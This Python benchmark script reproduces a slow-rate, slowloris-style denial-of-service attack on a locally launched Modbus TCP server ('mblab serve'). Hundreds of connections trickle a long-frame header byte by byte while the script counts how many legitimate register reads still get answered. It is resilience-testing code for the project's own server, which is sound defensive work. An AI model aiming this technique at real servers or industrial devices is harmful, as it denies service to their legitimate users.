#!/usr/bin/env python3
"""The slow-rate attack of issue 17 against `mblab serve`, with the figures it gives.

Usage: bench/run_slow_rate.py MBLAB [TRICKLERS] [SECONDS] [-- SERVE OPTIONS...]

Starts `MBLAB serve` on an ephemeral port, opens TRICKLERS connections (default 300) that each
send one byte every 200 ms of a header announcing the longest frame (reopening any the server
closes or refuses), and meanwhile makes a legitimate FC 03 read on a fresh connection twice a
second for SECONDS (default 30). Prints how many reads were answered.
"""
import os
import re
import selectors
import signal
import socket
import subprocess
import sys
import time

FRAME = bytes.fromhex("0001000000FE0110")
READ = bytes.fromhex("000100000006010300000001")


def main():
    args = sys.argv[1:]
    extra = []
    if "--" in args:
        extra = args[args.index("--") + 1:]
        args = args[: args.index("--")]
    binary = args[0]
    tricklers = int(args[1]) if len(args) > 1 else 300
    seconds = float(args[2]) if len(args) > 2 else 30.0
    serve = subprocess.Popen([binary, "serve", "--listen", "tcp://127.0.0.1:0", *extra],
                             stdout=subprocess.PIPE, text=True)
    try:
        line = serve.stdout.readline()
        port = int(re.search(r"tcp://127\.0\.0\.1:(\d+)", line).group(1))
        run(port, tricklers, seconds)
    finally:
        serve.send_signal(signal.SIGTERM)
        serve.wait(timeout=10)


def open_trickler(port):
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return None
    return s


def run(port, count, seconds):
    clients = [None] * count
    sent = [0] * count
    answered = attempts = 0
    start = time.monotonic()
    next_read = start + 2.0  # let the tricklers fill the server first
    next_drip = start
    while time.monotonic() - start < seconds + 2.0:
        now = time.monotonic()
        if now >= next_drip:
            next_drip += 0.2
            for i in range(count):
                if clients[i] is None:
                    clients[i] = open_trickler(port)
                    sent[i] = 0
                    if clients[i] is None:
                        continue
                try:
                    clients[i].send(FRAME[min(sent[i], len(FRAME) - 1):][:1])
                    sent[i] += 1
                except OSError:
                    clients[i].close()
                    clients[i] = None
        if now >= next_read:
            next_read += 0.5
            attempts += 1
            answered += legitimate_read(port)
        time.sleep(0.01)
    print(f"{count} tricklers: {answered} of {attempts} legitimate reads answered "
          f"in {seconds:.0f} s")


def legitimate_read(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1.0) as s:
            s.settimeout(1.0)
            s.sendall(READ)
            answer = b""
            while len(answer) < 11:
                chunk = s.recv(64)
                if not chunk:
                    return 0
                answer += chunk
            return 1 if answer[7] == 0x03 else 0
    except OSError:
        return 0


if __name__ == "__main__":
    main()
